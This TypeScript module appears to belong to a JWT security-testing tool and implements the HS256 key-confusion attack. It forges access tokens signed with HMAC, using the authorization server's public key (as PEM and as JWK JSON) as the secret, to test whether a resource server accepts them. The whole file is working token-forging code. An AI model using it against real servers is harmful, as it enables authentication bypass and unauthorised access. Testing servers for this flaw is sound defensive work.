/**
 * hs256-key-confusion — the honest claims signed with HS256 using the AS's
 * published public key as the HMAC secret (its PEM, the form libraries
 * load, and its JWK JSON). An RS that picks the verification algorithm
 * from the token verifies the MAC with the public key and accepts
 * (RFC 8725 §2.1, §3.1; CVE-2016-10555, CVE-2022-21449's cousins).
 */
import { createPublicKey } from 'node:crypto'
import { SignJWT } from 'jose'
import { claimsFor } from './jwt-parts.ts'
import { defineAttack } from './types.ts'

export const hs256KeyConfusion = defineAttack({
  id: 'hs256-key-confusion',
  summary: 'verifies an HS256 MAC keyed with the AS public key',
  refs: ['RFC 8725 §2.1', 'RFC 8725 §3.1'],
  async build(kit) {
    const keys = kit.jwks.filter((k) => k.kty === 'RSA' || k.kty === 'EC' || k.kty === 'OKP').slice(0, 2)
    if (keys.length === 0) return { applicable: false, reason: 'the AS publishes no asymmetric key' }
    const claims = claimsFor(kit.honest, kit.issuer, kit.rs.audience, kit.rs.scope)
    const requests = []
    for (const jwk of keys) {
      const pem = createPublicKey({ key: jwk as never, format: 'jwk' })
        .export({ type: 'spki', format: 'pem' })
        .toString()
      const header = { alg: 'HS256', typ: 'at+jwt', ...(jwk.kid ? { kid: jwk.kid } : {}) }
      for (const [form, secret] of [
        ['PEM', pem],
        ['JWK JSON', JSON.stringify(jwk)],
      ] as const) {
        requests.push({
          variant: `HS256 keyed with the ${form} of kid ${jwk.kid ?? '(none)'}`,
          token: await new SignJWT(claims).setProtectedHeader(header).sign(new TextEncoder().encode(secret)),
        })
      }
    }
    return { applicable: true, requests }
  },
})
